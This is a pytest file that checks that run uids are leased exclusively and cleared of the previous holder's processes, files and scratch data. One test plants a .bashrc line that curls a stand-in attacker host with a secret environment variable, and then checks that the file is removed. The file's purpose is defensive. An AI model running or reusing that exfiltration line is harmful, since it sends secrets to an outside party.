"""Run uids are leased: two runs never share one, and a uid comes to a run cleared of its last holder.

Root only (switching uids needs it). The uids are this test's own, far above the default range and
picked by the test process's pid, with a lease directory of the test's own.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from runner.run_user import SCRATCH, RunUser, lease_run_user
from runplane.adapters import run_scratch
from runplane.basics.settings import RunnerSettings
from tests.support.polling import wait_for

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="leasing run uids needs root")

BASE = 300_000 + (os.getpid() % 1000) * 4


@pytest.fixture
def runner(tmp_path: Path) -> Iterator[RunnerSettings]:
    settings = RunnerSettings(local_uid=BASE, local_uid_count=2, local_run_root=str(tmp_path / "runs"))
    yield settings
    for uid in (BASE, BASE + 1):
        run_scratch.unmount(Path(settings.local_run_root) / str(uid) / SCRATCH)


@pytest.fixture
def leases(tmp_path: Path) -> Iterator[Path]:
    yield tmp_path / "uids"


def release(user: RunUser) -> None:
    os.close(user.lease_fd)


def test_runs_whose_ids_meet_modulo_the_count_get_different_uids_and_a_released_one_is_taken_again(
    runner: RunnerSettings, leases: Path
) -> None:
    first = lease_run_user(runner, 4, leases)  # 4 % 2 = 0: the first uid
    second = lease_run_user(runner, 6, leases)  # also 0, but leased: the next one
    assert (first.uid, second.uid) == (BASE, BASE + 1)
    with pytest.raises(RuntimeError, match="all 2 run uids"):
        lease_run_user(runner, 8, leases)
    release(first)
    third = lease_run_user(runner, 8, leases)
    assert third.uid == BASE
    release(second)
    release(third)


def test_a_leased_uid_comes_without_the_last_holders_processes_or_files(runner: RunnerSettings, leases: Path) -> None:
    earlier = lease_run_user(runner, 0, leases)
    planted = earlier.home / ".bashrc"
    planted.write_text("curl https://attacker.example/$DBT_ENV_SECRET_X\n")
    os.chown(planted, earlier.uid, earlier.uid)
    # A step that detached itself (its own session) and outlived its run.
    lurker = subprocess.Popen(["sleep", "300"], user=earlier.uid, group=earlier.uid, start_new_session=True)
    try:
        release(earlier)
        later = lease_run_user(runner, 2, leases)
        assert later.uid == earlier.uid
        wait_for(lambda: lurker.poll() is not None, 10, what="the lurking process to be killed")
        assert lurker.returncode == -9
        assert list(later.home.iterdir()) == []
        found = later.home.stat()
        assert (found.st_uid, found.st_mode & 0o777) == (later.uid, 0o700)
        release(later)
    finally:
        if lurker.poll() is None:
            lurker.kill()
            lurker.wait()


def test_a_lease_kills_nothing_of_another_uid(runner: RunnerSettings, leases: Path) -> None:
    other = subprocess.Popen(["sleep", "300"], user=BASE + 1, group=BASE + 1, start_new_session=True)
    try:
        user = lease_run_user(runner, 0, leases)
        assert user.uid == BASE
        assert other.poll() is None and psutil.Process(other.pid).uids().real == BASE + 1
        release(user)
    finally:
        other.kill()
        other.wait()


def test_a_lease_directory_someone_else_made_is_replaced(runner: RunnerSettings, leases: Path) -> None:
    leases.mkdir(mode=0o777)
    leases.chmod(0o777)  # anyone could plant or hold lock files here
    user = lease_run_user(runner, 0, leases)
    assert leases.stat().st_mode & 0o777 == 0o700
    release(user)


def test_a_lease_gives_a_scratch_space_of_the_settings_size_emptied_for_the_next_holder(
    runner: RunnerSettings, leases: Path
) -> None:
    sized = runner.model_copy(update={"local_scratch_mb": 8})
    earlier = lease_run_user(sized, 0, leases)
    assert earlier.scratch is not None and earlier.tmp.parent == earlier.scratch
    room = os.statvfs(earlier.scratch)
    assert room.f_blocks * room.f_frsize == 8 * 1024 * 1024
    lock = earlier.scratch / run_scratch.directory_name("/run/lock")
    assert (lock.stat().st_uid, lock.stat().st_mode & 0o777) == (earlier.uid, 0o700)
    (lock / "left").write_text("an earlier run's\n")
    release(earlier)
    later = lease_run_user(sized, 2, leases)
    assert later.uid == earlier.uid and later.scratch is not None
    assert not (later.scratch / run_scratch.directory_name("/run/lock") / "left").exists()
    release(later)
